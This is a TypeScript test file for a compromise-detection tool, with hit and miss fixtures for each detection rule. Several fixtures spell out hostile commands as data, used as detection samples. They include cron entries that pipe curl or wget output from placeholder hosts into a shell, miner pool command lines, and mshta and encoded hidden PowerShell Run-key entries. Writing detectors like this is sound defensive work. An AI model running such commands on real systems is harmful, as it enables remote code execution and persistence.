import { describe, expect, it } from 'vitest';
import { loadCatalog } from '../../adapters/catalog/index.ts';
import { assessCompromise } from '../../domain/assess-compromise.ts';
import { RULE_FIELDS } from '../../domain/fact-fields.ts';
import type { HostSnapshot } from '../../domain/facts/snapshot.ts';
import type { Platform } from '../../domain/subject.ts';
import { ordinaryProcesses } from '../support/ordinary-processes.ts';
import { aFile, anAutostart, aProcess, aSnapshot, aSocket, POLICY } from '../support/snapshots.ts';

const { rules } = loadCatalog();

type Facts = Partial<HostSnapshot>;
const run = (...executables: string[]): Facts => ({
  processes: executables.map((executable, index) => aProcess({ pid: 50 + index, executable })),
});
const titled = (executable: string, commandLine: string): Facts => ({
  processes: [aProcess({ pid: 50, executable, commandLine })],
});
const online = (executable: string, executableDeleted = false): Facts => ({
  processes: [aProcess({ pid: 50, executable, executableDeleted })],
  sockets: [aSocket({ pid: 50 })],
});
const cron = (...commands: string[]): Facts => ({
  autostart: commands.map((command) => anAutostart({ kind: 'cron', name: `* * * * * ${command}`, command })),
});
const runKey = (...commands: string[]): Facts => ({
  autostart: commands.map((command) => anAutostart({ kind: 'registry-run', name: 'x', command })),
});
const winlogon = (name: string, command: string): Facts => ({
  autostart: [anAutostart({ kind: 'winlogon', name, command })],
});
const file = (path: string, mode: string): Facts => ({ files: [aFile(path, { mode })] });

/** For each rule: hosts that it must notice, and hosts that look alike and that it must leave alone. */
const FIXTURES: Readonly<Record<string, { platform: Platform; hits: readonly Facts[]; misses: readonly Facts[] }>> = {
  'linux-deleted-executable': {
    platform: 'linux',
    hits: [online('/home/bob/.d', true), online('/dev/shm/.d', true)],
    misses: [
      online('/usr/sbin/NetworkManager', true),
      online('/home/bob/app'),
      { processes: [aProcess({ pid: 50, executable: '/home/bob/x', executableDeleted: true })] },
    ],
  },
  'linux-program-from-writable-folder': {
    platform: 'linux',
    hits: [run('/tmp/xmrig'), run('/dev/shm/.d'), run('/var/tmp/a/b'), run('/memfd:x')],
    misses: [
      run('/tmp/.mount_qBittoAbC/usr/bin/app'),
      run('/memfd:runc_cloned:/proc/self/exe'),
      run('/home/bob/tmp/x'),
      run('/usr/bin/tmpreaper'),
    ],
  },
  'linux-kernel-thread-name': {
    platform: 'linux',
    hits: [
      titled('/tmp/.x11-unix-cache', 'kdevtmpfsi 100000'),
      titled('/home/bob/a', '[kworker/0:1]'),
      { processes: [aProcess({ pid: 9, name: 'kworker/u8:2', executable: '/opt/x' })] },
    ],
    misses: [
      {
        processes: [{ ...aProcess({ pid: 9 }), name: 'kworker/0:1', executable: undefined as never, commandLine: '' }],
      },
      run('/usr/libexec/kioworker'),
    ],
  },
  'miner-name': {
    platform: 'linux',
    hits: [run('/opt/xmrig'), run('/opt/xmrig-6.21'), titled('/opt/a', 'kinsing')],
    misses: [run('/usr/bin/xmrigging-tool.d'), run('/usr/bin/miner')],
  },
  'miner-command-line': {
    platform: 'windows',
    hits: [
      titled('C:\\a.exe', 'a.exe -o stratum+tcp://pool.example.org:3333 -u x'),
      titled('C:\\a.exe', 'a.exe --donate-level 1'),
      titled('C:\\a.exe', 'a --algo=rx/0'),
    ],
    misses: [titled('C:\\a.exe', 'a.exe --algorithm fast --coin-list')],
  },
  'linux-ld-preload': {
    platform: 'linux',
    hits: [
      {
        autostart: [
          anAutostart({
            kind: 'ld-preload',
            name: '1',
            location: '/etc/ld.so.preload',
            command: '/usr/local/lib/libsystem.so',
          }),
        ],
      },
    ],
    misses: [{ autostart: [anAutostart({ kind: 'ld-preload', name: '1', command: '  ' })] }],
  },
  'linux-autostart-from-writable-folder': {
    platform: 'linux',
    hits: [
      cron('/tmp/.upd.sh'),
      cron('cd /; /dev/shm/x'),
      cron('bash /var/tmp/a.sh'),
      cron('sh -c "/tmp/x"'),
      cron('-/tmp/x'),
    ],
    misses: [
      cron('find /tmp/ -mtime +7 -delete'),
      cron('rm -rf /tmp/cache/x'),
      cron('/usr/bin/backup --to /var/tmp/x'),
      cron('/usr/bin/systemd-tmpfiles --clean'),
    ],
  },
  'linux-autostart-from-hidden-folder': {
    platform: 'linux',
    hits: [cron('/usr/lib/.x/run'), cron('/opt/.hidden'), cron('/etc/cron/.d/y')],
    misses: [cron('/home/bob/.local/bin/sync'), cron('/usr/bin/tool ./x'), cron('/usr/lib/x/run')],
  },
  'linux-autostart-downloads-and-runs': {
    platform: 'linux',
    hits: [
      cron('curl -fsSL http://198.51.100.9/a.sh | bash'),
      cron('wget -q -O- http://x | sh'),
      cron('echo YQ== | base64 -d | /bin/sh'),
      cron('bash -c "$(curl -s http://x)"'),
    ],
    misses: [
      cron('curl -s https://health.example.org/ping'),
      cron('curl -s x | grep sh'),
      cron('wget -q https://x -O /srv/sh'),
    ],
  },
  'linux-suid-in-user-folder': {
    platform: 'linux',
    hits: [file('/var/tmp/.sh', '4755'), file('/home/bob/a', '6755'), file('/tmp/x', '-rwsr-xr-x')],
    misses: [
      file('/home/bob/.local/share/containers/storage/overlay/a/diff/usr/bin/sudo', '4755'),
      file('/home/bob/app/chrome-sandbox', '4755'),
      file('/home/bob/a', '755'),
      file('/home/bob/a', '2755'),
      file('/usr/bin/sudo', '4755'),
    ],
  },
  'hosts-file-blocks-protection': {
    platform: 'linux',
    hits: [
      { hostsFile: ['127.0.0.1 update.eset.com'] },
      { hostsFile: ['0.0.0.0\tsecurity.debian.org'] },
      { hostsFile: ['1.2.3.4 a windowsupdate.com b'] },
    ],
    misses: [
      {
        hostsFile: [
          '127.0.0.1 localhost',
          '10.0.0.5 git.example.org',
          '127.0.0.1 reset.com',
          '0.0.0.0 ads.example.net',
        ],
      },
    ],
  },
  'windows-winlogon-shell': {
    platform: 'windows',
    hits: [winlogon('Shell', 'explorer.exe, C:\\x.exe'), winlogon('Shell', 'C:\\Users\\a\\explorer.exe')],
    misses: [
      winlogon('Shell', 'explorer.exe'),
      winlogon('Shell', 'C:\\Windows\\explorer.exe'),
      winlogon('Other', 'x.exe'),
    ],
  },
  'windows-winlogon-userinit': {
    platform: 'windows',
    hits: [winlogon('Userinit', 'C:\\Windows\\system32\\userinit.exe,C:\\x.exe'), winlogon('Taskman', 'x.exe')],
    misses: [winlogon('Userinit', 'C:\\Windows\\system32\\userinit.exe,'), winlogon('Userinit', 'userinit.exe')],
  },
  'windows-run-from-writable-folder': {
    platform: 'windows',
    hits: [
      runKey('C:\\Users\\a\\AppData\\Local\\Temp\\x.exe'),
      runKey('"C:\\Users\\Public\\x.exe"'),
      runKey('C:\\ProgramData\\x.exe'),
      runKey('%TEMP%\\x.exe'),
    ],
    misses: [
      runKey(
        '"C:\\Program Files\\Vendor\\x.exe"',
        'C:\\ProgramData\\Vendor\\x.exe',
        'C:\\Users\\a\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe',
      ),
    ],
  },
  'windows-run-script-host': {
    platform: 'windows',
    hits: [
      runKey('mshta http://x/a.hta'),
      runKey('powershell.exe -nop -enc SQBFAFgA'),
      runKey('powershell -WindowStyle Hidden -File x'),
      runKey('rundll32.exe C:\\Users\\a\\x.dll,Run'),
    ],
    misses: [runKey('powershell.exe -File C:\\Admin\\logon.ps1', 'rundll32.exe C:\\Windows\\System32\\x.dll,Run')],
  },
  'windows-system-name-elsewhere': {
    platform: 'windows',
    hits: [run('C:\\Users\\a\\AppData\\Roaming\\svchost.exe'), run('C:\\Windows\\svchost.exe'), run('D:\\lsass.exe')],
    misses: [
      run('C:\\Windows\\System32\\svchost.exe'),
      run('\\??\\C:\\Windows\\system32\\csrss.exe'),
      run('\\SystemRoot\\System32\\smss.exe'),
      run('C:\\Windows\\explorer.exe'),
      run('C:\\Windows\\WinSxS\\amd64_x\\dllhost.exe'),
    ],
  },
  'windows-program-from-temp': {
    platform: 'windows',
    hits: [online('C:\\Users\\a\\AppData\\Local\\Temp\\x.exe'), online('C:\\Users\\Public\\y.exe')],
    misses: [run('C:\\Users\\a\\AppData\\Local\\Temp\\setup.exe'), online('C:\\Program Files\\Temporary\\x.exe')],
  },
  'alert-owner-unknown': {
    platform: 'linux',
    hits: [{ processes: [aProcess({ pid: 4242, executable: '/opt/x' })] }],
    misses: [run('/opt/x')],
  },
};

function found(platform: Platform, facts: Facts): readonly string[] {
  const snapshot = aSnapshot({ platform, ...facts });
  const policy = POLICY.compromise;
  return assessCompromise({ snapshot, rules, policy, unexplainedPids: new Set([4242]) }).findings.map(
    ({ ruleId }) => ruleId,
  );
}

describe('the rules of compromise', () => {
  it('all have fixtures, and fixtures all have a rule', () => {
    expect(Object.keys(FIXTURES).sort()).toEqual(rules.map(({ id }) => id).sort());
  });

  it('look at fields that exist', () => {
    for (const { id, match } of rules) {
      for (const field of Object.keys(match.fields))
        expect(RULE_FIELDS[match.fact], `${id}: ${field}`).toContain(field);
    }
  });

  it.each(rules.map((rule) => [rule.id, rule.platforms] as const))(
    '%s notices its signs and nothing alike',
    (id, platforms) => {
      const { platform, hits, misses } = FIXTURES[id] ?? { platform: 'linux', hits: [], misses: [] };
      expect(platforms).toContain(platform);
      for (const facts of hits) expect(found(platform, facts), JSON.stringify(facts)).toContain(id);
      for (const facts of misses) expect(found(platform, facts), JSON.stringify(facts)).not.toContain(id);
    },
  );

  it.each(['linux', 'windows'] as const)('find nothing in ordinary programs of %s', (platform) => {
    const processes = ordinaryProcesses(platform);
    const sockets = processes.map(({ pid }, index) => aSocket({ pid, localPort: 50_000 + index }));
    expect(found(platform, { processes, sockets })).toEqual([]);
  });

  it('stay fast on text made to defeat them', () => {
    const hostile = [
      'curl '.repeat(400),
      '/etc'.repeat(500),
      'powershell '.repeat(180),
      ' a.'.repeat(660),
      '/usr/.'.repeat(330),
    ];
    const autostart = hostile.map((command) => anAutostart({ kind: 'cron', name: command, command }));
    const started = performance.now();
    found('linux', {
      autostart,
      hostsFile: hostile,
      files: hostile.map((text) => aFile(`/home/${text}`, { mode: '4755' })),
    });
    found('windows', { autostart, hostsFile: hostile });
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
